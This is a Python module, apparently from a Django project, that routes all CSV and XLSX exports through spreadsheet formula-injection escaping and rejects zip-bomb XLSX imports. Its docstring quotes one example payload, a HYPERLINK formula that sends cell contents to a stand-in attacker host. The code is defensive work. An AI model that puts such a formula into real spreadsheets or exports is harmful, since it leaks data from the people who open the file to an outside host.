"""The one way the project writes CSV (and admin XLSX): every export a person may open in a
spreadsheet goes through here.

Spreadsheet formula injection: a cell that starts with = + - @ (or a tab or carriage return,
which some spreadsheets skip before reading one) is run as a formula when opened, so an
organization named `=HYPERLINK("http://evil.example/?"&A1,"Click")` or a survey comment starting
with `+` would run on a staff member's machine. Such text is written with a leading apostrophe,
which spreadsheets show as text (OWASP's advice). Plain numbers, even negative ones, are left as
they are. Readers of our own files (the HSDS import) take the apostrophe off again with
`cell_unescaped`.
"""

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Iterator
from typing import Any

from import_export.formats.base_formats import CSV, XLSX

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)*(?:[eE][-+]?\d+)?")
# Excel reads a UTF-8 file as the local code page unless it starts with a byte order mark:
# staff exports carry one so Arabic, Chinese or Haitian Creole text opens legibly.
BOM = "\ufeff"


def cell(value: Any) -> Any:
    """`value` as it may go into a spreadsheet cell."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def cell_unescaped(value: str) -> str:
    """The text `cell` was given, read back from one of our files."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START) and not NUMBER.fullmatch(value[1:]):
        return value[1:]
    return value


class _SafeWriter:
    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **options) -> _SafeWriter:
    """csv.writer with every cell escaped."""
    return _SafeWriter(stream, **options)


def csv_text(rows: Iterable[Iterable[Any]], *, bom: bool = False, lineterminator: str = "\r\n") -> str:
    out = io.StringIO()
    if bom:
        out.write(BOM)
    writer(out, lineterminator=lineterminator).writerows(rows)
    return out.getvalue()


class _Echo:
    def write(self, value: str) -> str:
        return value


def _streamed(rows: Iterable[Iterable[Any]], *, bom: bool) -> Iterator[str]:
    if bom:
        yield BOM
    echo = writer(_Echo())
    for row in rows:
        yield echo.writerow(row)


def csv_download(rows: Iterable[Iterable[Any]], *, filename: str, bom: bool = True):
    """A CSV attachment streamed row by row (a large survey export never sits in memory)."""
    # Imported here: settings read EXPORT_FORMATS from this module before Django is set up.
    from django.http import StreamingHttpResponse

    response = StreamingHttpResponse(_streamed(rows, bom=bom), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _escape_dataset(dataset) -> None:
    for index, row in enumerate(dataset):
        dataset[index] = tuple(cell(value) for value in row)


class SafeCSV(CSV):
    """django-import-export's CSV with our escaping (its own only drops a leading '=') and a BOM."""

    def export_data(self, dataset, **kwargs):
        _escape_dataset(dataset)
        return BOM + super().export_data(dataset, **kwargs)


class SafeXLSX(XLSX):
    """django-import-export's XLSX, where openpyxl would write a cell starting with '=' as a live
    formula; and an import that refuses a zip bomb from the archive's headers before openpyxl
    inflates anything (the admin shows the refusal as a form error, nothing is imported)."""

    def create_dataset(self, in_stream):
        from .archives import office_archive_within_limits

        try:
            with zipfile.ZipFile(io.BytesIO(in_stream)) as archive:
                within = office_archive_within_limits(archive)
        except zipfile.BadZipFile as exc:
            raise ValueError("not an XLSX file") from exc
        if not within:
            raise ValueError("the spreadsheet unpacks to more than an import may hold")
        return super().create_dataset(in_stream)

    def export_data(self, dataset, **kwargs):
        _escape_dataset(dataset)
        return super().export_data(dataset, **kwargs)


EXPORT_FORMATS = [SafeCSV, SafeXLSX]
